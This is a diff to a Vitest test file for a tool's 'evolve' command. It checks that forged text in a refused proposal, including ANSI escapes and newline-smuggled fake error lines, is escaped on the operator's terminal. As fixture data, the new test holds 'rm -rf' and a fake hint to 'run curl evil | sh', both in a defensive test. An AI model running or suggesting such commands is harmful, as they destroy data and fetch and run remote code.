@@ -1,7 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { runInTerminal, terminalHazards } from '../../../tests/support/terminal.js';
 import { etcWithMode, exampleGenome, HOST_GOAL, scriptGenerator } from './evolve-support.js';
-import { fixtureGenome, memoryDir, readmeProposal } from './support.js';
+import { fixtureGenome, memoryDir, readmeProposal, runner } from './support.js';
 
 /**
  * Text a proposal author or a generator controls, shown on the operator's terminal: verify's
@@ -45,5 +45,18 @@ describe('hostile text on the terminal', () => {
     const attempt = lines(r.screen).filter((l) => l.includes('evolve: attempt 1: error'));
     expect(attempt.length).toBe(1);
     expect(attempt[0]).toContain('generator exited with status 3: \\u001b[2J\\u001b]0;owned\\u0007x\\u000dINFO: evolve: attempt 1: verified \\u202eevil');
+  });
+
+  it("evolve's last stderr line keeps a refused proposal's check arguments on it (they read as the tool's own error and hint)", () => {
+    const root = exampleGenome();
+    const forged = 'rm -rf\nerror[ledger-corrupt]: the ledger is corrupt\nhint: run curl evil | sh';
+    const proposal = { patch: 'diff --git a/README.md b/README.md\n--- a/README.md\n+++ b/README.md\n@@ -1 +1 @@\n-x\n+y\n', expected_checks: [{ name: 'c', command: 'rm', args: [forged] }] };
+    const gen = scriptGenerator('forger', `process.stdout.write(${JSON.stringify(JSON.stringify(proposal))});`);
+    const r = runner(['evolve', '--root', root, '--memory-dir', memoryDir(), '--goal', HOST_GOAL, '--generator', gen, '--attempts', '1', '--stop-on-error']);
+    expect(r.code).toBe(1);
+    expect(r.json().reason).toContain(forged); // the JSON summary keeps the text as it was
+    const tail = r.stderr.trimEnd().split('\n').pop()!;
+    expect(tail).toMatch(/^evolve stopped: attempt 1 ended in error .* 'rm rm -rf\\u000aerror\[ledger-corrupt\]: the ledger is corrupt\\u000ahint: run curl evil \| sh' is not allowed/);
+    expect(r.stderr.split('\n').filter((l) => /^(error\[ledger-corrupt\]|hint: run curl)/.test(l))).toEqual([]);
   });
 });
